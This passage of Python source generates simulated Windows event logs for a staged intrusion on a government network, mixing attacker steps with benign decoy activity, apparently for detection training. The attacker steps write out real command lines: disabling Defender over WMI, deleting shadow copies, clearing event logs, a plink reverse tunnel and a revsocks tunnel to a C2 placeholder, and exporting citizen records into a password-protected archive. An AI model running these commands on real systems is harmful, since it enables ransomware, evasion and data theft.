        S("A36", "2022-07-14 19:55", "PRINT01",
          "Defender real-time protection disabled over WMI (Set-MpPreference)",
          Proc("PRINT01", -20, POWERSHELL,
               "powershell.exe -NoP -c \"gc C:\\Users\\Public\\hosts.txt | % { Invoke-WmiMethod "
               "-ComputerName $_ -Class Win32_Process -Name Create -ArgumentList "
               "'powershell.exe -NoP -W Hidden -c Set-MpPreference -DisableRealtimeMonitoring "
               "$true' }\"", ADMIN, EXPLORER, lifetime=400.0),
          Connect("PRINT01", -18, POWERSHELL, ADMIN, count=8, spread=45.0, port=135,
                  targets=tuple(IPS[h] for h in ("FS01", "SQL01", "EAPP01", "BKP01", "EXCH01",
                                                 "WS-ADM01", "WS-PM03", "PRINT01"))),
          *(defender_off(h, i * 45.0) for i, h in enumerate(
              ("FS01", "SQL01", "EAPP01", "BKP01", "EXCH01", "WS-ADM01", "WS-PM03",
               "PRINT01")))),
        S("A37", "2022-07-15 06:02", "PRINT01", "Mellona.exe started on the print server",
          rdp("PRINT01", -240, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS,
              duration=7800),
          Proc("PRINT01", 0, "C:\\Users\\Public\\Mellona.exe",
               "C:\\Users\\Public\\Mellona.exe C:\\Users\\Public\\hosts.txt", ADMIN, EXPLORER,
               lifetime=560.0)),
        S("A38", "2022-07-15 06:02", "PRINT01",
          "GoXml.exe and win.bat pushed to C$\\ProgramData\\Microsoft\\Windows of each target",
          Connect("PRINT01", 20, "C:\\Users\\Public\\Mellona.exe", ADMIN, count=16,
                  spread=27.0, port=445, targets=tuple(IPS[h] for h in TARGETS_2022)),
          *(push_goxml(h, 30 + i * 50.0) for i, h in enumerate(TARGETS_2022))),
        S("A39", "2022-07-15 06:10", "FS01",
          "GoXml.exe runs: shadow copies deleted, services stopped, files renamed .lck",
          *(encrypt(h, i * 6.0) for i, h in enumerate(TARGETS_2022)),
          impact=TARGETS_2022),
        S("A40", "2022-07-15 06:12", "FS01", "win.bat placed in the Startup folder",
          *(persist_winbat(h, i * 4.0) for i, h in enumerate(TARGETS_2022))),
        S("A41", "2022-07-15 07:40", "FS01",
          "wevtutil cl System/Security/Application on FS01, SQL01, BKP01",
          *(_clear_remote(h, i * 60.0) for i, h in enumerate(("FS01", "SQL01", "BKP01")))),
        S("A42", "2022-07-15 07:55", "FS01",
          "RawDisk3 driver service and cl.exe wiper; hosts go offline",
          wipe("FS01", 0, True), wipe("SQL01", 40, True), wipe("BKP01", 80, True),
          wipe("EAPP01", 120, True), impact=("FS01", "SQL01", "BKP01", "EAPP01")),
        S("A43", "2022-07-15 08:05", "PRINT01", "Mellona.exe and cl.exe deleted; log cleared",
          FileDelete("PRINT01", 0, "C:\\Users\\Public\\Mellona.exe", CMD, ADMIN),
          FileDelete("PRINT01", 1, "C:\\Users\\Public\\cl.exe", CMD, ADMIN),
          ClearLogs("PRINT01", 10, (x.SECURITY,), ADMIN)),
        S("A44", "2022-07-15 08:10", "COLLAB-WEB2", "last web-shell hit of 2022",
          shell(0, "/_layouts/15/ClientBin/ClientBin.aspx", "tasklist")),
        S("A45", "2022-09-09 17:30", "TIMS01",
          "wave 2: RDP, x7f2k.exe encryptor, RawDisk3, host wiped",
          rdp("TIMS01", 0, user=ADMIN, src_ip=C2_IP, workstation=ATTACKER_WS_2023,
              duration=1800),
          Proc("TIMS01", 120, "C:\\Users\\Administrator\\Desktop\\x7f2k.exe",
               "\"C:\\Users\\Administrator\\Desktop\\x7f2k.exe\" 7 1 C:\\ 3", ADMIN, EXPLORER),
          Proc("TIMS01", 125, CMD, "cmd.exe /c vssadmin delete shadows /all /quiet", ADMIN,
               "C:\\Users\\Administrator\\Desktop\\x7f2k.exe"),
          Proc("TIMS01", 126, S32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet",
               ADMIN, CMD),
          ServiceInstall("TIMS01", 300, "RawDisk3",
                         "C:\\Users\\Administrator\\AppData\\Local\\Temp\\rwdsk.sys",
                         "kernel mode driver", "demand start", "", ADMIN),
          Wipe("TIMS01", 600), impact=("TIMS01",)),
        S("A47", "2023-01-03 03:10", "EAPP01",
          "re-entry: external RDP as svc_eapp (password never rotated)",
          rdp("EAPP01", 0, user=f"{NB}\\svc_eapp", src_ip=C2_IP, workstation=ATTACKER_WS_2023,
              duration=2400)),
        S("A48", "2023-01-03 03:25", "EAPP01",
          "plink reverse tunnel of RDP (-R 4445:127.0.0.1:3389); PS remoting enabled",
          FileWrite("EAPP01", -30, "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\plink.exe",
                    EXPLORER, f"{NB}\\svc_eapp"),
          session_cmd("EAPP01", 0, f"{NB}\\svc_eapp",
                      "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\plink.exe -ssh -P 22 -l tun "
                      f"-pw ******** -R 4445:127.0.0.1:3389 {C2_IP} -N"),
          Connect("EAPP01", 2, "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\plink.exe",
                  f"{NB}\\svc_eapp", C2_IP, 22),
          Proc("EAPP01", 300, POWERSHELL, "powershell.exe -nop -c \"Enable-PSRemoting -Force "
               "-SkipNetworkProfileCheck\"", f"{NB}\\svc_eapp", EXPLORER, lifetime=20.0),
          Script("EAPP01", 302, "Enable-PSRemoting -Force -SkipNetworkProfileCheck",
                 f"{NB}\\svc_eapp", host_app="powershell.exe -nop")),
        S("A49", "2023-01-05 02:40", "EAPP01",
          "RDP through the tunnel (127.0.0.1), then RDP to SQL01",
          rdp("EAPP01", 0, user=f"{NB}\\svc_eapp", src_ip="127.0.0.1",
              workstation=ATTACKER_WS_2023, duration=3600),
          rdp_from("EAPP01", "10.10.1.30", "SQL01", "10.10.0.60", 480,
                   user=f"{NB}\\svc_eapp", workstation="EAPP01", duration=2400)),
        S("A50", "2023-01-05 03:00", "SQL01", "citizen-registry export staged as c.rar",
          FileWrite("SQL01", -40, "C:\\ProgramData\\rar.exe", EXPLORER, f"{NB}\\svc_eapp"),
          session_cmd("SQL01", 0, f"{NB}\\svc_eapp",
                      'sqlcmd -S localhost -E -Q "SELECT * FROM CitizenRegistry.dbo.Persons '
                      'WHERE Updated > \'2022-10-01\'" -s "," -o C:\\ProgramData\\c.csv'),
          FileWrite("SQL01", 30, "C:\\ProgramData\\c.csv",
                    "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
                    "SQLCMD.EXE", f"{NB}\\svc_eapp"),
          session_cmd("SQL01", 90, f"{NB}\\svc_eapp", "C:\\ProgramData\\rar.exe a -hpQ7zzw4 -m5 "
                      "C:\\ProgramData\\c.rar C:\\ProgramData\\c.csv"),
          FileWrite("SQL01", 110, "C:\\ProgramData\\c.rar", "C:\\ProgramData\\rar.exe",
                    f"{NB}\\svc_eapp")),
        S("A52", "2023-01-29 01:47", "EAPP01",
          "svc_eapp RDP session generates citizen ID ID-230129-0042 (after claimed eviction)",
          rdp("EAPP01", 0, user=f"{NB}\\svc_eapp", src_ip=C2_IP, workstation=ATTACKER_WS_2023,
              duration=1500),
          Proc("EAPP01", 120, "C:\\inetpub\\eapp\\bin\\EAppDocGen.exe",
               "\"C:\\inetpub\\eapp\\bin\\EAppDocGen.exe\" --template citizen-id --doc "
               "ID-230129-0042 --out C:\\inetpub\\eapp\\out\\", f"{NB}\\svc_eapp", EXPLORER,
               lifetime=8.0),
          FileWrite("EAPP01", 126, "C:\\inetpub\\eapp\\out\\ID-230129-0042.pdf",
                    "C:\\inetpub\\eapp\\bin\\EAppDocGen.exe", f"{NB}\\svc_eapp"),
          AppLog("EAPP01", 127, "GovEServices", 1000,
                 "DocGenerated doc_id=ID-230129-0042 user=svc_eapp client=console "
                 "logon_id={logon} channel=cli", logon_of=f"{NB}\\svc_eapp")),
        S("A53", "2023-01-29 02:05", "EAPP01", "PDF copied out through the RDP session",
          Connect("EAPP01", 0, "C:\\Windows\\System32\\svchost.exe",
                  "NT AUTHORITY\\NETWORK SERVICE", C2_IP, 3389, inbound=True),
          exfil=("EAPP01",)),
        S("A54", "2023-02-02 01:30", "EAPP01", "revsocks reverse SOCKS to 203.0.113.90:8443",
          rdp("EAPP01", -300, user=f"{NB}\\svc_eapp", src_ip="127.0.0.1",
              workstation=ATTACKER_WS_2023, duration=1800),
          FileWrite("EAPP01", -60, "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\revsocks.exe",
                    EXPLORER, f"{NB}\\svc_eapp"),
          session_cmd("EAPP01", 0, f"{NB}\\svc_eapp",
                      "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\revsocks.exe -connect "
                      f"{C2_IP}:8443 -pass ********"),
          Connect("EAPP01", 2, "C:\\Users\\svc_eapp\\AppData\\Local\\Temp\\revsocks.exe",
                  f"{NB}\\svc_eapp", C2_IP, 8443),
          exfil=("EAPP01",)),
        S("A55", "2023-02-02 01:50", "EAPP01",
          "wevtutil cl Security: last attacker activity",
          Proc("EAPP01", -2, CMD, '"C:\\Windows\\system32\\cmd.exe"', f"{NB}\\svc_eapp",
               EXPLORER, lifetime=30.0),
          ClearLogs("EAPP01", 0, (x.SECURITY,), f"{NB}\\svc_eapp")),
    )


def _clear_remote(host: str, at: float) -> tuple[Action, ...]:
    """wmiexec from PRINT01 running wevtutil cl on three channels (A41)."""
    return (
        Logon(host, at, ADMIN, 3, PRINT_IP, "", "NTLM"),
        Proc(host, at + 1.5, CMD, "cmd.exe /Q /c wevtutil cl System & wevtutil cl Security & "
             "wevtutil cl Application 1> \\\\127.0.0.1\\ADMIN$\\__{epoch} 2>&1", ADMIN,
             WMIPRVSE, cwd="C:\\", lifetime=8.0),
        ClearLogs(host, at + 2.0, (x.SYSTEM, x.SECURITY, x.APPLICATION), ADMIN),
    )


def _milestones() -> tuple[Milestone, ...]:
    sec = f"{NB}\\adm.security"
    resets: list[Action] = [
        AccountChange("DC01", 0, 4724, f"{NB}\\adm.khoxha", sec),
        AccountChange("DC01", 5, 4726, f"{NB}\\exsync01", sec),
    ]
    for i, host in enumerate(("COLLAB-WEB2", "EXCH01", "PRINT01", "SQL01", "EAPP01", "WS-ADM01",
                              "WS-PM03", "WS-FIN02")):
        resets.append(AccountChange(host, 60 + i * 90, 4724, ADMIN, sec))
    return (
        Milestone("A46", ts("2022-11-15 12:00"), "eviction",
                  "eviction declared: Administrator passwords reset, svc_eapp not rotated",
                  "", tuple(resets)),
        Milestone("A51", ts("2023-01-20 10:00"), "statement",
                  "official statement: attackers fully removed"),
        Milestone("R-SQL01", ts("2022-08-22 06:00"), "rebuild", "SQL01 rebuilt", "SQL01"),
        Milestone("R-EAPP01", ts("2022-10-12 06:00"), "rebuild",
                  "EAPP01 restored from an offline backup (web.config unchanged)", "EAPP01"),
    )


# -- benign bait --------------------------------------------------------------------------


def _run(ctx: Ctx, t: int, actions: Iterable[Action]) -> None:
    for action in actions:
        action.emit(ctx, t)


def b01_apppool_recycle(ctx: Ctx, t: int) -> None:
    """B01: app-pool recycle compiles ASP.NET pages: w3wp → csc.exe → cvtres.exe."""
    fw = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
    tmp = (f"{fw}Temporary ASP.NET Files\\root\\{ctx.rng.getrandbits(32):08x}\\"
           f"{ctx.rng.getrandbits(32):08x}\\")
    name = "".join(ctx.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    _run(ctx, t, (
        Proc("COLLAB-WEB2", 0, fw + "csc.exe", f'"{fw}csc.exe" /noconfig /fullpaths '
             f'@"{tmp}{name}.cmdline"', SP_USER, W3WP, SP_POOL, SP_USER,
             cwd="C:\\Windows\\system32\\inetsrv\\", lifetime=2.5),
        Proc("COLLAB-WEB2", 1.2, fw + "cvtres.exe", f"{fw}cvtres.exe /NOLOGO /READONLY "
             f"/MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES{ctx.rng.getrandbits(16):04X}.tmp\" "
             f"\"{tmp}CSC{ctx.rng.getrandbits(32):08X}.TMP\"", SP_USER, fw + "csc.exe",
             lifetime=0.5),
        FileWrite("COLLAB-WEB2", 2.2, f"{tmp}App_Web_{name}.dll", fw + "csc.exe", SP_USER),
    ))


def b02_sharepoint_update(ctx: Ctx, t: int) -> None:
    """B02: SharePoint update writes .aspx pages into LAYOUTS (psconfig or the admin shell)."""
    admin = f"{NB}\\sp.admin"
    if ctx.rng.random() < 0.3:
        acts: tuple[Action, ...] = (
            Proc("COLLAB-WEB2", 0, POWERSHELL, "powershell.exe -NoExit -Command \". 'C:\\Program "
                 "Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\15\\CONFIG\\"
                 "POWERSHELL\\Registration\\\\sharepoint.ps1' \"", admin, EXPLORER),
            FileWrite("COLLAB-WEB2", 30, LAYOUTS + "GovForms\\FormViewer.aspx", POWERSHELL,
                      admin),
            FileWrite("COLLAB-WEB2", 31, LAYOUTS + "GovForms\\web.config", POWERSHELL, admin),
        )
    else:
        psconfig = ("C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\"
                    "15\\BIN\\PSCONFIG.EXE")
        acts = (
            Proc("COLLAB-WEB2", 0, psconfig, f'"{psconfig}" -cmd upgrade -inplace b2b -wait '
                 "-force", admin, EXPLORER, lifetime=900.0),
            FileWrite("COLLAB-WEB2", 200, LAYOUTS + "1033\\spcf.aspx", psconfig, admin),
            FileWrite("COLLAB-WEB2", 201, LAYOUTS + "closeConnection.aspx", psconfig, admin),
        )
    _run(ctx, t, acts)


_HELPDESK_TARGETS = ("COLLAB-WEB2", "EXCH01", "FS01", "PRINT01", "SQL01", "EAPP01", "BKP01",
                     "TIMS01")


def b03_helpdesk_rdp(ctx: Ctx, t: int) -> None:
    """B03: helpdesk RDP as the local Administrator from WS-ADM01 (office hours)."""
    alive = [h for h in _HELPDESK_TARGETS if ctx.alive(h, t) and ctx.alive("WS-ADM01", t)]
    if not alive:
        return
    dst = alive[ctx.rng.randrange(len(alive))]
    minutes = ctx.rng.randrange(8, 40)
    tool = ctx.rng.choice((
        (S32 + "mmc.exe",
         '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\eventvwr.msc" /s'),
        (S32 + "mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\services.msc"'),
        (S32 + "Taskmgr.exe", '"C:\\Windows\\system32\\taskmgr.exe" /4'),
    ))
    _run(ctx, t, (
        *rdp_from("WS-ADM01", IPS["WS-ADM01"], dst, IPS[dst], 0, user=ADMIN,
                  workstation="WS-ADM01", duration=minutes * 60.0, src_user=f"{NB}\\h.basha"),
        Proc(dst, 90, tool[0], tool[1], ADMIN, EXPLORER, lifetime=minutes * 30.0),
    ))


def b04_scanner(ctx: Ctx, t: int) -> None:
    """B04: monthly Advanced Port Scanner inventory sweep by the helpdesk."""
    aps = "C:\\Program Files (x86)\\Advanced Port Scanner\\advanced_port_scanner.exe"
    servers = tuple(h.ip for h in HOSTS if h.kind != "workstation")
    _run(ctx, t, (
        Proc("WS-ADM01", 0, aps, f'"{aps}"', f"{NB}\\h.basha", EXPLORER, integrity="Medium",
             lifetime=600.0),
        Connect("WS-ADM01", 20, aps, f"{NB}\\h.basha", count=len(servers) * 3, spread=0.3,
                ports=(80, 445, 3389), targets=tuple(ip for ip in servers for _ in range(3))),
    ))


def b05_ediscovery(ctx: Ctx, t: int) -> None:
    """B05: quarterly legal eDiscovery search by adm.legal."""
    q = (to_dt(t).month - 1) // 3 + 1
    _run(ctx, t, (
        Web("EXCH01", 0, IPS["WS-LEG01"], "POST", "/powershell",
            "serializationLevel=Full;clientApplication=ExchangeShell", 200, f"{NB}\\adm.legal",
            6000, "Microsoft WinRM Client", count=3),
        ExchangeCmd("EXCH01", 30, "New-MailboxSearch",
                    f'-Name "Legal-{to_dt(t).year}Q{q}" -SourceMailboxes "procurement" '
                    '-SearchQuery "contract OR tender" -EstimateOnly "True"',
                    f"{NB}\\adm.legal"),
        ExchangeCmd("EXCH01", 300, "Get-MailboxSearch", f'-Identity "Legal-{to_dt(t).year}Q{q}"',
                    f"{NB}\\adm.legal"),
    ))


def b06_backup(ctx: Ctx, t: int) -> None:
    """B06: nightly backup job: old shadow copies pruned, raw volume reads."""
    if not ctx.alive("BKP01", t):
        return
    bengine = "C:\\Program Files\\Veritas\\Backup Exec\\bengine.exe"
    svc = f"{NB}\\svc_backup"
    _run(ctx, t, (
        Proc("BKP01", 0, CMD, '"C:\\Windows\\system32\\cmd.exe" /c vssadmin delete shadows '
             "/for=D: /oldest /quiet", svc, bengine, '"' + bengine + '"', svc, lifetime=3.0),
        Proc("BKP01", 0.6, S32 + "vssadmin.exe", "vssadmin  delete shadows /for=D: /oldest /quiet",
             svc, CMD, lifetime=2.0),
        RawRead("BKP01", 30, bengine, svc, "\\Device\\HarddiskVolume3"),
    ))


def b07_ps_log_maintenance(ctx: Ctx, t: int) -> None:
    """B07: monthly maintenance script clears "Windows PowerShell" on DC01."""
    _run(ctx, t, (
        Proc("DC01", -3, POWERSHELL, "powershell.exe -NoProfile -File C:\\Scripts\\maint.ps1",
             f"{NB}\\adm.khoxha", S32 + "svchost.exe", lifetime=30.0),
        ClearLogs("DC01", 0, (x.WINDOWS_POWERSHELL,), f"{NB}\\adm.khoxha", POWERSHELL),
    ))


def b08_printer_driver(ctx: Ctx, t: int) -> None:
    """B08: printer driver package installed on PRINT01 (7045, Sysmon 6)."""
    _run(ctx, t, (
        ServiceInstall("PRINT01", 0, "KMUPService", "C:\\Windows\\System32\\spool\\drivers\\x64\\"
                       "3\\KMUPSvc.exe", "user mode service", "auto start", "LocalSystem",
                       f"{NB}\\h.basha", "KONICA MINOLTA Universal Print Service"),
        DriverLoad("PRINT01", 5, "C:\\Windows\\System32\\DriverStore\\FileRepository\\"
                   "km_prn.inf_amd64_5f1c2e0b\\kmpd64.sys", "KONICA MINOLTA, INC."),
    ))


def b10_logon_scripts(ctx: Ctx, t: int) -> None:
    """B10: GPO drops logon.bat into users' Startup; logoff script kills Outlook."""
    for host in HOSTS:
        if host.kind != "workstation" or not ctx.alive(host.name, t) or ctx.rng.random() > 0.5:
            continue
        user = host.users[ctx.rng.randrange(len(host.users))]
        _run(ctx, t + ctx.rng.randrange(0, 1200) * US, (
            FileWrite(host.name, 0, f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\"
                      "Start Menu\\Programs\\Startup\\logon.bat", S32 + "svchost.exe", SYSTEM),
            Proc(host.name, 9 * 3600 + ctx.rng.randrange(0, 3600), S32 + "taskkill.exe",
                 "taskkill /im outlook.exe /f", f"{NB}\\{user}", CMD,
                 "C:\\Windows\\system32\\cmd.exe /c \\\\goval.local\\NETLOGON\\logoff.bat",
                 integrity="Medium", lifetime=1.0),
        ))


def b11_robocopy(ctx: Ctx, t: int) -> None:
    """B11: admin migrates archive folders with robocopy over \\\\FS01\\C$."""
    if not ctx.alive("FS01", t):
        return
    user = f"{NB}\\h.basha"
    _run(ctx, t, (
        Proc("WS-ADM01", 0, S32 + "Robocopy.exe", "robocopy \\\\FS01\\C$\\Shares\\Archive "
             "\\\\FS01\\C$\\Shares\\Archive2021 /E /COPY:DAT /R:1 /W:1", user, CMD,
             integrity="High", lifetime=1200.0),
        Logon("FS01", 2, user, 3, IPS["WS-ADM01"], "-", "Kerberos"),
        ShareFile("FS01", 3, user, IPS["WS-ADM01"], "C$", "\\??\\C:\\",
                  "Shares\\Archive\\2019", "0x120089"),
        ShareFile("FS01", 5, user, IPS["WS-ADM01"], "C$", "\\??\\C:\\",
                  "Shares\\Archive2021\\2019\\index.xlsx", "0x2", connect=False),
    ))


def b13_mdm_sync(ctx: Ctx, t: int) -> None:
    """B13: the MDM service account's nightly EWS sync (large POST volume)."""
    svc = f"{NB}\\svc_mdm"
    _run(ctx, t, (
        Logon("EXCH01", 0, svc, 3, "10.10.0.85", "MDM01", "NTLM", admin=False),
        Web("EXCH01", 1, "10.10.0.85", "POST", "/EWS/Exchange.asmx", "-", 200, svc, 900_000,
            "MobileIron/10.8 " + UA_EWS, count=1 + poisson(ctx.rng, 2 * ctx.scale), spread=30.0),
    ))


def b14_dba_archives(ctx: Ctx, t: int) -> None:
    """B14: the DBA archives backups with WinRAR (sometimes password-protected) or 7-Zip."""
    if not ctx.alive("SQL01", t):
        return
    stamp = to_dt(t).strftime("%Y%m%d")
    dba = f"{NB}\\dba.lleshi"
    roll = ctx.rng.random()
    if roll < 0.25:
        cmd = (f'"C:\\Program Files\\WinRAR\\Rar.exe" a -hpOffs1te{stamp[:4]} -m5 -ep1 '
               f"E:\\Offsite\\CitizenRegistry_{stamp}.rar D:\\SQLBackup\\CitizenRegistry_full.bak")
        image = "C:\\Program Files\\WinRAR\\Rar.exe"
    elif roll < 0.75:
        cmd = (f'"C:\\Program Files\\WinRAR\\Rar.exe" a -m5 -ep1 D:\\Archive\\Logs_{stamp}.rar '
               "D:\\SQLLogs\\*.trn")
        image = "C:\\Program Files\\WinRAR\\Rar.exe"
    else:
        cmd = (f'"C:\\Program Files\\7-Zip\\7z.exe" a -t7z D:\\Archive\\Audit_{stamp}.7z '
               "D:\\Audit\\*.sqlaudit")
        image = "C:\\Program Files\\7-Zip\\7z.exe"
    _run(ctx, t, (
        Proc("SQL01", 0, image, cmd, dba, CMD, '"C:\\Windows\\system32\\cmd.exe" /k', dba,
             lifetime=240.0),
    ))


def b15_vuln_scan(ctx: Ctx, t: int) -> None:
    """B15: weekly vulnerability scan of SQL01: connection bursts and failed logons."""
    if not ctx.alive("SQL01", t):
        return
    scanner = "10.10.0.90"
    _run(ctx, t, (Connect("SQL01", 0, "System", SYSTEM, scanner,
                          count=4 + poisson(ctx.rng, 6 * ctx.scale), spread=0.4, inbound=True,
                          ports=(135, 139, 445, 1433, 3389, 5985)),))
    for i, user in enumerate(("sa", "administrator", "guest", "test")):
        e.failed_logon(ctx, "SQL01", t + (20 + i * 3) * US, f"SQL01\\{user}", 3, scanner,
                       "NESSUS-SCN01")
    for i in range(3):
        e.app_event(ctx, "SQL01", t + (40 + i * 2) * US, "MSSQLSERVER", 18456, (
            "sa", "Reason: Password did not match that for the login provided.",
            f" [CLIENT: {scanner}]"), level=0, qualifiers=49152, task=4)


def _baits() -> tuple[Bait, ...]:
    return (
        Bait("B01", "nightly app-pool recycle: w3wp → csc.exe/cvtres.exe",
             Cadence("daily", 1.5, 30, 0.35), b01_apppool_recycle),
        Bait("B02", "SharePoint update writes .aspx to LAYOUTS",
             Cadence("weekly", 3.0, 60, 0.5, weekday=6), b02_sharepoint_update),
        Bait("B03", "helpdesk RDP as Administrator from WS-ADM01",
             Cadence("weekdays", 11.5, 200, 0.6), b03_helpdesk_rdp),
        Bait("B04", "Advanced Port Scanner inventory sweep",
             Cadence("monthly", 11.0, 60, 0.9, day=5), b04_scanner),
        Bait("B05", "legal eDiscovery New-MailboxSearch by adm.legal",
             Cadence("quarterly", 14.0, 60, 1.0, day=10), b05_ediscovery),
        Bait("B06", "backup agent prunes shadow copies", Cadence("daily", 2.0, 10),
             b06_backup),
        Bait("B07", "maintenance wevtutil cl \"Windows PowerShell\" on DC01",
             Cadence("monthly", 9.0, 30, 1.0, day=1), b07_ps_log_maintenance),
        Bait("B08", "printer driver service and driver load",
             Cadence("weekly", 10.0, 90, 0.5, weekday=2), b08_printer_driver),
        Bait("B10", "GPO logon.bat in Startup; taskkill outlook at logoff",
             Cadence("weekdays", 8.0, 20, 0.3), b10_logon_scripts),
        Bait("B11", "robocopy over \\\\FS01\\C$", Cadence("monthly", 19.0, 60, 0.6, day=20),
             b11_robocopy),
        Bait("B13", "MDM service account nightly EWS sync", Cadence("daily", 0.5, 15, 0.8),
             b13_mdm_sync),
        Bait("B14", "DBA archives backups with rar/7-Zip",
             Cadence("weekly", 18.0, 60, 0.7, weekday=4), b14_dba_archives),
        Bait("B15", "vulnerability scanner sweep of SQL01",
             Cadence("weekly", 23.0, 30, 1.0, weekday=0), b15_vuln_scan),
    )


def build() -> Scenario:
    """The albania scenario."""
    return Scenario(
        variant="albania",
        domain=DOMAIN,
        netbios=NB,
        domain_sid="S-1-5-21-2716145373-3851234712-1845593376",
        start=ts("2021-05-01"),
        end=ts("2023-03-01"),
        tz_hours=1,
        hosts=HOSTS,
        accounts=ACCOUNTS,
        steps=_steps(),
        milestones=_milestones(),
        baits=_baits(),
        density=0.39,
        staff=STAFF,
    )
